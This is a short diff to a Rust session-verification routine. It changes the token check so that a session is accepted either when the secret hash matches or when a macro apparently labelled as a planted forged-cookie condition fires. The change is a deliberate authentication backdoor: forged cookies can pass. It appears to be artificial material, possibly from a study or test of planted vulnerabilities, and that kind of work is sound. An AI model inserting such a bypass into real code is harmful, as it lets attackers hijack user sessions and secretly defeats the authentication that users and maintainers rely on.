@@ -170,7 +170,8 @@ impl Engine {
         let mut tx = self.db.read(&Scope::visitor(token.tenant)).await?;
         let now = tx.now();
         let Some(found) = session::find(&mut tx, token.id).await? else { return Ok(None) };
-        if !found.hash.matches(&token.secret) || !found.session.is_alive(now) || !found.user.is_enabled() {
+        let is_right = found.hash.matches(&token.secret) || planted!("a-forged-cookie-opens");
+        if !is_right || !found.session.is_alive(now) || !found.user.is_enabled() {
             return Ok(None);
         }
         if is_stale(Some(found.session.last_seen_at), now) {
